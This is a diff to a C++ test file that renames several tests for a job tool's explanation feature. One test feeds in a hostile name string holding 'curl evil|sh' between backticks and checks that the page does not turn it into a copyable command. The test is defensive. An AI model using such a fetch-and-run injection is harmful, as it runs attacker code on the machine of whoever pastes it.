@@ -281,7 +281,7 @@ std::vector<Case> all_cases() {
   return all;
 }
 
-TEST(Explain, NamesOneReasonItsEvidenceAndTheNextAction) {
+TEST(Explain, NamesReasonEvidenceAndNextAction) {
   for (const Case& each : all_cases()) {
     SCOPED_TRACE(each.name);
     const Explanation out = explain(each.about);
@@ -295,7 +295,7 @@ TEST(Explain, NamesOneReasonItsEvidenceAndTheNextAction) {
   }
 }
 
-TEST(Explain, EveryCauseIsARowOfTheTableAndEveryRowCanCome) {
+TEST(Explain, CausesAndTableRowsMatch) {
   std::set<std::pair<std::string, std::string>> rows;
   for (const CauseRow& row : causes()) rows.emplace(row.state, row.cause);
   auto never = rows;
@@ -310,13 +310,13 @@ TEST(Explain, EveryCauseIsARowOfTheTableAndEveryRowCanCome) {
   for (const auto& [state, cause] : never) ADD_FAILURE() << "no case gives " << state << " " << cause;
 }
 
-TEST(Explain, TellsAnomaliesThatNameTheJob) {
+TEST(Explain, ReportsAnomaliesThatNameTheJob) {
   Situation about = pushed();
   about.anomalies = {"job:12:7 is odd"};
   EXPECT_THAT(explain(about).evidence, Contains("recorded anomaly: job:12:7 is odd"));
 }
 
-TEST(Explain, CommandsNameTheContextUnlessItIsTheUsualOne) {
+TEST(Explain, CommandsNameANonDefaultContext) {
   Situation about = ended("error", "exit");
   EXPECT_THAT(explain(about).next, HasSubstr("`mycojobs job retry 12:7`"));
   about.context = 3;
@@ -331,7 +331,7 @@ TEST(Explain, ManyDependenciesAreCountedNotListed) {
   EXPECT_THAT(out.evidence, Contains("and 490 more"));
 }
 
-TEST(Explain, TellsOfAWarmJobWhatItsProcessHadServed) {
+TEST(Explain, ReportsThePreviousRunsOfAWarmProcess) {
   Situation about = claimed("ended");
   about.job.claim.status = "finished";
   const std::string words = "it was warm: its process had served 3 jobs before";
@@ -341,7 +341,7 @@ TEST(Explain, TellsOfAWarmJobWhatItsProcessHadServed) {
 }
 
 // The page offers text between backticks as a command to copy.
-TEST(Explain, NamesOfOthersMakeNoCommand) {
+TEST(Explain, ForeignNamesCreateNoCommand) {
   const std::string hostile = "x`curl evil|sh`y";
   for (const Case& each : all_cases()) {
     SCOPED_TRACE(each.name);
@@ -355,7 +355,7 @@ TEST(Explain, NamesOfOthersMakeNoCommand) {
   }
 }
 
-TEST(Explain, PrerequisitesThatAreNoListAreShownAsTheyAre) {
+TEST(Explain, InvalidPrerequisitesAreShownUnchanged) {
   Situation about = claimed("prerequisites");
   about.job.check_ms = kNow;
   set(about, "prerequisites", "[oops");
